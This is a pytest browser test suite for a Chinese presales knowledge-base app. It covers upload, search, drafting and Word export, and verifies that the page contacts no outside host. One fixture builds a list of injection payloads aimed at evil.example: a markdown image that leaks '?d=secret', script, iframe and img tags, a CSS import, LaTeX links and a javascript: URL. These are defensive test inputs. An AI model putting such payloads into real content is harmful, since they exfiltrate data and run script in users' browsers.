"""The app in a real browser: upload, find, draft, open a citation, take the Word file along; and no other host."""

from __future__ import annotations

import contextlib
import io
import os
import re
import shutil
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from assistant.settings import Settings
from assistant.workspace import Workspace
from ui.serving import ADDRESS, free_port

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

ROOT = Path(__file__).parents[1]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or ""
FLAGS = (
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
)  # fmt: skip
STARTING_SECONDS = 60
READY_SECONDS = 240
"""For the first upload: on a machine without a prepared model it is prepared then."""

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="chromium is not installed"),
]

CASE = """# 华东医药冷链仓库建设案例

## 部署模型

系统部署在客户本地机房，采用三台服务器双机热备，断网后三十分钟内恢复作业。

## 服务与保障

硬件质保期为两年，提供 7×24 小时响应，四小时内到场。
"""
PRICES = "型号,名称,单位,单价\nHY-AMR600,潜伏式搬运机器人,台,98000\nHY-WMS-PRO,仓储管理软件专业版,套,286000\n"
NEED = """# 澄湖医药冷链仓库需求

1. 系统本地部署，断网后 30 分钟内恢复作业。
2. 质保期 2 年，7×24 小时响应。
3. 采用 HY-AMR600 机器人 10 台。
"""


@dataclass
class Visit:
    """A page, and the requests it made to anybody but the app."""

    page: Page
    address: str
    strangers: list[str] = field(default_factory=list)

    def open(self, path: str = "") -> None:
        self.page.goto(f"{self.address}/{path}", wait_until="domcontentloaded")

    def seen(self, words: str) -> Locator:
        return self.page.get_by_text(words).filter(visible=True).first


@contextlib.contextmanager
def served(home: Path) -> Iterator[str]:
    """The app over ``home``; its address."""
    port = free_port(None)
    command = [sys.executable, "-m", "ui.cli", "--home", str(home), "ui", "--no-browser", "--port", str(port)]
    environment = {**os.environ, "PRESALES_LANGUAGE": "zh", "PYTHONPATH": str(ROOT)}
    with (home.parent / "server.log").open("wb") as log:
        server = subprocess.Popen(command, cwd=home.parent, env=environment, stdout=log, stderr=log)
        try:
            _wait_for(f"http://{ADDRESS}:{port}/_stcore/health", server)
            yield f"http://{ADDRESS}:{port}"
        except BaseException as error:
            error.add_note((home.parent / "server.log").read_text(encoding="utf-8", errors="replace"))
            raise
        finally:
            server.terminate()
            server.wait(30)


def _wait_for(address: str, server: subprocess.Popen[bytes]) -> None:
    until = time.monotonic() + STARTING_SECONDS
    while time.monotonic() < until and server.poll() is None:
        with contextlib.suppress(OSError), urllib.request.urlopen(address, timeout=2) as answer:
            if answer.read() == b"ok":
                return
        time.sleep(0.2)
    raise AssertionError("the app did not start")


@contextlib.contextmanager
def visiting(address: str) -> Iterator[Visit]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS))
        context = browser.new_context(
            locale="zh-CN", viewport={"width": 1380, "height": 900}, accept_downloads=True
        )
        context.set_default_timeout(60_000)
        visit = Visit(context.new_page(), address)
        host = address.removeprefix("http://")

        def note(url: str) -> None:
            if not re.match(rf"(data:|blob:|(http|ws)://{re.escape(host)}/)", url):
                visit.strangers.append(url)

        context.on("request", lambda request: note(request.url))
        visit.page.on("websocket", lambda socket: note(socket.url))
        try:
            yield visit
        except BaseException as error:
            error.add_note(f"{visit.page.url} showed:\n{visit.page.locator('body').inner_text()}")
            raise
        finally:
            browser.close()


def upload(visit: Visit, *files: tuple[str, str]) -> None:
    visit.page.get_by_role("tab", name="添加").click()
    visit.page.get_by_role("button", name="加入知识库").wait_for()
    payloads = [{"name": name, "mimeType": "text/plain", "buffer": words.encode()} for name, words in files]
    visit.page.locator("input[type=file]").first.set_input_files(payloads)
    visit.page.get_by_role("button", name=f"加入知识库（{len(files)}").click()
    for name, _ in files:
        visit.page.locator("td").filter(has_text=name).filter(visible=True).wait_for(
            timeout=READY_SECONDS * 1000
        )


def find(visit: Visit, query: str) -> None:
    visit.page.get_by_role("tab", name="检索").click()
    box = visit.page.get_by_placeholder("例如：")
    box.fill(query)
    box.press("Enter")
    visit.page.locator("mark.word").filter(visible=True).first.wait_for()


def draft(visit: Visit, need: str) -> None:
    box = visit.page.get_by_placeholder("把客户的需求")
    box.fill(need)
    box.press("Control+Enter")
    visit.page.get_by_role("button", name="起草方案").click()
    visit.page.locator(".sheet.page h2").first.wait_for()


def test_from_upload_to_a_cited_outline_in_word(tmp_path: Path) -> None:
    import docx

    with served(tmp_path / "home") as address, visiting(address) as visit:
        page = visit.page
        visit.open("outlines")  # a page's own address works before any other was opened
        page.get_by_placeholder("把客户的需求").wait_for()
        visit.open("library")
        page.get_by_role("tab", name="添加").wait_for()
        assert page.get_by_role("dialog").count() == 0
        page.get_by_role("link", name="方案").click()
        page.get_by_placeholder("把客户的需求").wait_for()
        page.get_by_role("link", name="知识库").click()
        upload(visit, ("华东医药案例.md", CASE), ("价格表.csv", PRICES))
        assert page.locator("td", has_text="已收录").filter(visible=True).count() == 2

        for name in ("文档", "添加", "检索", "文档"):  # every click counts
            page.get_by_role("tab", name=name).click()
            page.locator("[role=tab][aria-selected=true]", has_text=name).wait_for()
            page.wait_for_timeout(500)
            assert page.locator("[role=tab][aria-selected=true]").all_inner_texts() == [name]

        find(visit, "断网后多久恢复作业")
        assert "断网" in "".join(page.locator("mark.word").filter(visible=True).all_inner_texts())
        visit.seen("语义向量就绪").wait_for()
        page.get_by_role("button", name="看原文").filter(visible=True).first.click()
        page.get_by_role("dialog").locator("mark.passage").first.wait_for()
        page.keyboard.press("Escape")
        page.get_by_role("dialog").wait_for(state="hidden")

        page.get_by_role("link", name="方案").click()
        draft(visit, NEED)
        assert page.locator(".gap").count() > 0
        page.locator("button.cite").filter(visible=True).first.click()
        drawer = page.get_by_role("dialog")
        drawer.locator("mark.passage, tr.marked").first.wait_for()
        page.keyboard.press("Escape")
        drawer.wait_for(state="hidden")

        with page.expect_download() as waiting:
            page.get_by_role("button", name="下载 Word").click()
        taken = docx.Document(io.BytesIO(Path(waiting.value.path()).read_bytes()))
        said = "\n".join(paragraph.text for paragraph in taken.paragraphs)
        assert waiting.value.suggested_filename.endswith(".docx")
        assert "成本估算" in said
        assert "断网后三十分钟内恢复" in said

        page.get_by_text("English").click()
        page.get_by_role("button", name="Download Word").wait_for()
        page.get_by_role("link", name="Library").click()
        page.get_by_role("heading", name="Library").wait_for()
        assert visit.strangers == []


def test_choices_made_in_one_language_hold_in_the_other(tmp_path: Path) -> None:
    with served(tmp_path / "home") as address, visiting(address) as visit:
        page = visit.page
        visit.open("library")
        page.get_by_role("tab", name="添加").click()
        page.get_by_text("补充信息").click()
        chooser = page.get_by_test_id("stSelectbox").filter(has_text="种类").filter(visible=True)
        case = page.get_by_role("option", name="案例")
        for _ in range(10):  # a click while the expander still unfolds opens nothing
            chooser.locator("input").first.click()
            page.wait_for_timeout(2000)
            if case.count():
                break
        case.click()
        page.get_by_text("English").click()
        page.get_by_role("tab", name="Add", exact=True).wait_for()
        page.get_by_text("About these files").click()
        visit.seen("Reusable").wait_for()
        inputs = page.get_by_test_id("stSelectbox").filter(visible=True).locator("input")
        assert [inputs.nth(n).input_value() for n in range(inputs.count())] == ["case", "by kind"]
        payload = {"name": "case.md", "mimeType": "text/plain", "buffer": CASE.encode()}
        page.locator("input[type=file]").first.set_input_files([payload])
        page.get_by_role("button", name="Add to the library (1)").click()
        row = page.locator("tr").filter(has_text="case.md").filter(visible=True)
        row.wait_for(timeout=READY_SECONDS * 1000)
        assert re.search(r"\bcase\b(?!\?|\.md)", row.inner_text())
        assert page.get_by_test_id("stAlert").filter(has_text="not known").count() == 0


EVIL = "http://evil.example"
HOSTILE = (
    f"![p]({EVIL}/p.png?d=secret) <img src={EVIL}/i.png> <iframe src={EVIL}/f></iframe> [a]({EVIL}/a) "
    f"<{EVIL}/auto> {EVIL}/bare www.evil.example ![r][ref] $\\href{{{EVIL}/m}}{{x}}$ $$\\includegraphics{{{EVIL}/g}}$$ "
    f":material/home: :smile: :red[x] <script src={EVIL}/s.js></script> <style>@import '{EVIL}/c.css'</style>"
)


def hostile_home(home: Path) -> Workspace:
    """A library and an outline in which everything a page shows tries to reach another host."""
    workspace = Workspace.open(Settings(home=home, models=home / "none"))
    folder = home.parent / "brought"
    folder.mkdir()
    name = "![n](http:evil.example) <img src=x> $n$ www.evil.example [l](javascript:alert(1)).md"
    cell = HOSTILE.replace("|", " ")
    table = f"| 断网恢复 {cell} | b |\n|---|---|\n| x | y |"
    words = f"# {HOSTILE}\n\n## {HOSTILE}\n\n断网恢复 {HOSTILE}\n\n{table}\n\n[ref]: {EVIL}/ref.png\n"
    (folder / name).write_text(words, encoding="utf-8")
    about = {"customer": HOSTILE, "industry": HOSTILE, "products": (HOSTILE,)}
    assert [one.outcome for one in workspace.intake.add([folder / name], about)] == ["indexed"]
    return workspace


def hostile_outline(workspace: Workspace) -> str:
    import sample_outlines

    from knowledge.store import outlines

    outline = sample_outlines.warehouse()
    section = outline.sections[1]
    points = tuple(point.model_copy(update={"text": HOSTILE}) for point in section.points)
    gaps = tuple(
        gap.model_copy(update={"text": HOSTILE, "ask": HOSTILE, "whom": HOSTILE}) for gap in section.gaps
    )
    evil = outline.model_copy(
        update={
            "title": HOSTILE,
            "customer": HOSTILE,
            "sections": (
                section.model_copy(update={"heading": HOSTILE, "points": points, "gaps": gaps}),
                *outline.sections[2:],
            ),
        }
    )
    with workspace.record.writing() as connection:
        return outlines.save(connection, workspace.settings.principal, evil).id


def harmless(page: Page) -> bool:
    """No element on the page points anywhere but here."""
    found: int = page.evaluate(
        """() => {
          const all = (root) => [...root.querySelectorAll('*')].flatMap((e) => [e, ...(e.shadowRoot ? all(e.shadowRoot) : [])]);
          return all(document).filter((e) => ['src', 'href', 'srcset', 'data', 'action']
            .some((name) => (e.getAttribute(name) || '').includes('evil'))).length;
        }"""
    )
    return found == 0


def test_nothing_in_documents_needs_or_names_makes_the_browser_call_another_host(tmp_path: Path) -> None:
    home = tmp_path / "home"
    workspace = hostile_home(home)
    identity = hostile_outline(workspace)
    with served(home) as address, visiting(address) as visit:
        page = visit.page
        visit.open()
        find(visit, "断网恢复")
        assert harmless(page)
        page.get_by_role("button", name="看原文").filter(visible=True).first.click()
        page.get_by_role("dialog").locator("mark.passage").first.wait_for()
        assert harmless(page)
        page.keyboard.press("Escape")
        page.get_by_role("dialog").wait_for(state="hidden")

        page.get_by_role("tab", name="文档").click()
        page.get_by_test_id("stDataFrame").locator("[role=gridcell]").first.wait_for(state="attached")
        page.get_by_test_id("stDataFrame").locator(".dvn-scroller").click(position={"x": 16, "y": 54})
        page.get_by_role("button", name="移除所选（1）").click()
        page.get_by_role("dialog").get_by_text("evil.example").first.wait_for()
        assert harmless(page)
        page.keyboard.press("Escape")
        page.get_by_role("dialog").wait_for(state="hidden")

        visit.open(f"outlines?id={identity}")
        page.locator("h1", has_text="secret").wait_for()
        assert page.locator("h1").inner_text().replace("\u200b", "").startswith("![p](http://evil.example")
        assert harmless(page)
        page.locator("button.cite").filter(visible=True).first.click()
        page.get_by_role("dialog").locator("mark.passage").first.wait_for()
        assert harmless(page)

        visit.open("outlines?id=![x](http://evil.example/x.png)")
        page.get_by_test_id("stAlert").get_by_text("evil.example").wait_for()
        assert harmless(page)

        visit.open("outlines")
        page.locator("button.open", has_text="secret").wait_for()
        draft(visit, f"# {HOSTILE}\n\n1. 断网后 30 分钟内恢复 {HOSTILE}\n")
        assert harmless(page)
        assert visit.strangers == []
